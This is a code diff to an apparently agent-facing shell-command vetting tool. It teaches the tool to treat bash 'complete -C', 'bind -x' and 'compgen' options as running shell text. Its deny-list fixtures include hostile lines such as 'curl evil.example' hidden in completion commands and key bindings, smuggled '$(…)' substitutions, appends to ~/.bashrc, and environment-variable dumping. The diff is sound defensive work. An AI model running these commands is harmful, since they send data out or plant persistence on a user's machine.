@@ -545,24 +545,27 @@ export const BUILTIN_ENTRIES: ProgramEntry[] = [
     },
   },
   {
-    names: ['compgen'],
+    names: ['compgen', 'complete'],
     dialects: BASH,
-    summary: 'compgen -e/-v lists variable names, which ${!name} turns into their values; -C runs a command, -F a function, -W expands its word list again',
+    summary:
+      'compgen -e/-v lists variable names, which ${!name} turns into their values; -C runs a command, -F a function, -W expands its word list again (complete registers the same to run when a word is completed at a prompt: read as run)',
     analyze(call) {
-      const p = parse(call.args, { order: 'gnu', flags: 'abcdefgjksuv', valued: 'AoGWFCXPS' });
-      const lists = p.options.some((o) => o.name === 'e' || o.name === 'v' || (o.name === 'A' && /^(export|variable)$/.test(value(o.value) ?? '')));
+      const p = parse(call.args, { order: 'gnu', flags: call.name === 'complete' ? 'abcdefgjksuvprDEI' : 'abcdefgjksuv', valued: 'AoGWFCXPS' });
+      const lists = call.name === 'compgen' && p.options.some((o) => o.name === 'e' || o.name === 'v' || (o.name === 'A' && /^(export|variable)$/.test(value(o.value) ?? '')));
       const runs: Run[] = [];
       for (const o of p.options) {
         if (!o.value) continue;
         // `-C CMD` runs CMD as shell text; `-F NAME` calls the function NAME.
         // Bash appends the command being completed, the word and the word before it: `-C 'curl localhost'` runs
         // `curl localhost compgen x ''`, whose last words curl reads as more hosts.
-        if (o.name === 'C' || o.name === 'F') runs.push({ kind: 'script', dialect: 'bash', words: [o.value], via: `compgen -${o.name}`, sameShell: o.name === 'F', more: true });
+        // (`complete -C CMD ls` runs CMD only when ls's words are completed at a prompt, which a shell that reads a
+        // line as an agent's does not show; a session that keeps its state may. The text is read as run here.)
+        if (o.name === 'C' || o.name === 'F') runs.push({ kind: 'script', dialect: 'bash', words: [o.value], via: `${call.name} -${o.name}`, sameShell: o.name === 'F', more: true });
         // `-W LIST`: bash splits the list and expands each word again, so a `$(…)` in its value runs.
         if (o.name === 'W') {
           const v = value(o.value);
-          if (v === undefined) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: o.value, why: `compgen -W expands the words of a list computed when the command runs: ${o.value.dynamic ?? ''}` });
-          else if (/[$`]/.test(v)) runs.push({ kind: 'text', dialect: 'bash', text: `: ${v}`, word: o.value, via: 'compgen -W' });
+          if (v === undefined) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: o.value, why: `${call.name} -W expands the words of a list computed when the command runs: ${o.value.dynamic ?? ''}` });
+          else if (/[$`]/.test(v)) runs.push({ kind: 'text', dialect: 'bash', text: `: ${v}`, word: o.value, via: `${call.name} -W` });
         }
       }
       const out: Partial<Answer> = runs.length > 0 ? { runs } : {};
@@ -570,8 +573,32 @@ export const BUILTIN_ENTRIES: ProgramEntry[] = [
       return out;
     },
     examples: {
-      deny: ['compgen -e', 'for v in $(compgen -e); do echo "$v=${!v}"; done', 'compgen -A variable', "compgen -C 'curl evil.example' x", "compgen -C 'curl localhost' x", "compgen -W '$(curl evil.example)' x", "compgen -W'`curl evil.example`' x", 'compgen -W "$LIST" x', 'f() { curl evil.example; }; compgen -F f x'],
-      pass: ['compgen -c git', 'compgen -f src/', "compgen -W 'start stop status' st", "compgen -C 'ls' x", 'compgen -P "$" -W "a b" a'],
+      deny: ['compgen -e', 'for v in $(compgen -e); do echo "$v=${!v}"; done', 'compgen -A variable', "compgen -C 'curl evil.example' x", "compgen -C 'curl localhost' x", "compgen -W '$(curl evil.example)' x", "compgen -W'`curl evil.example`' x", 'compgen -W "$LIST" x', 'f() { curl evil.example; }; compgen -F f x', "complete -C 'curl evil.example' ls", "complete -o default -C 'echo x >> ~/.bashrc' ls"],
+      pass: ['compgen -c git', 'compgen -f src/', "compgen -W 'start stop status' st", "compgen -C 'ls' x", 'compgen -P "$" -W "a b" a', 'complete -C terraform terraform', 'complete -F _git git', 'complete -r ls'],
+    },
+  },
+  {
+    names: ['bind'],
+    dialects: BASH,
+    summary: 'bind -x KEYSEQ:CMD makes a key run shell text at a prompt (read as run); other forms set readline keys and variables',
+    analyze(call) {
+      const p = parse(call.args, { order: 'gnu', flags: 'lpsvPSVX', valued: 'mqufrx' });
+      const runs: Run[] = [];
+      for (const o of p.options) {
+        if (o.name !== 'x' || !o.value) continue;
+        const v = value(o.value);
+        // `"\C-x": cmd` or `"\C-x":"cmd"`: the text after the key sequence's colon, its double quotes removed.
+        const text = v === undefined ? undefined : /^\s*(?:"(?:[^"\\]|\\.)*"|[^:\s]+)\s*:\s*(.*)$/s.exec(v)?.[1]?.replace(/^"([\s\S]*)"\s*$/, '$1');
+        if (v === undefined) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: o.value, why: `bind -x binds a key to shell text computed when the command runs: ${o.value.dynamic ?? ''}` });
+        else if (text === undefined) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: o.value, why: `bind -x binds a key to shell text vouch does not read: ${v}` });
+        else runs.push({ kind: 'text', dialect: 'bash', text, word: o.value, via: 'bind -x' });
+      }
+      // (`bind -f ~/.inputrc` reads a readline file, keys for a prompt: its words are text.)
+      return { ...(runs.length > 0 ? { runs } : {}), uses: call.args.map((word) => ({ word, role: 'text' as const })) };
+    },
+    examples: {
+      deny: [`bind -x '"\\C-x": curl evil.example'`, `bind -x '"\\C-x":"echo x >> ~/.bashrc"'`, 'bind -x "$KEYS"'],
+      pass: [`bind -x '"\\C-l": clear'`, `bind '"\\C-x": "curl evil.example"'`, 'bind -l', 'bind -f ~/.inputrc'],
     },
   },
   {
@@ -659,10 +686,10 @@ export const BUILTIN_ENTRIES: ProgramEntry[] = [
       },
     },
   ),
-  known('unset shopt kill wait jobs exit return break continue umask ulimit caller disown suspend logout times help let bind complete compopt fg bg', 'shell builtins whose words are names, numbers or signals', 'text', {
+  known('unset shopt kill wait jobs exit return break continue umask ulimit caller disown suspend logout times help let compopt fg bg', 'shell builtins whose words are names, numbers or signals', 'text', {
     dialects: BASH,
-    // unset's subscript is arithmetic; shift, exit and return read a plain number (no arithmetic); complete only
-    // registers -C/-F for interactive completion.
+    // unset's subscript is arithmetic; shift, exit and return read a plain number (no arithmetic). (complete and
+    // bind have entries of their own: the text they register for a prompt is read.)
     examples: {
       deny: ["x='a[$(curl evil.example)]'; unset 'a[x]'", "x='a[$(curl evil.example)]'; let y=x"],
       pass: ["unset 'a[1]' arr", "x='a[$(curl evil.example)]'; shift \"$x\"", "x='a[$(curl evil.example)]'; exit \"$x\"", "complete -C 'my-completer' mycmd", 'let i=i+1'],
